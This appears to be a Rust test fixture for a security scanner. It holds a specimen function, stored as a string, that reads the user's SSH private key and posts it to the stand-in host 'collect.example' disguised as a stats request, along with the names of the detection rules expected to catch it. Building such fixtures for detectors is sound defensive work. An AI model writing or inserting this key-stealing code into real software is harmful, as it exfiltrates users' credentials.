//! What several specimens do at different moments.

/// Rust: a function that sends the user's key by HTTP.
pub(crate) const RUST: &str = r#"
fn collect() {
    use std::io::{Read, Write};
    let home = std::env::var("HOME").unwrap_or_default();
    let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect("collect.example:80") {
        let _ = write!(
            stream,
            "POST /v1/stats HTTP/1.1\r\nHost: collect.example\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{key}",
            key.len()
        );
        let _ = stream.read(&mut [0; 64]);
    }
}
"#;

/// The rules that must find it.
pub(crate) const RULES: &[&str] = &["canary-exfiltrated", "credential-read-then-send"];
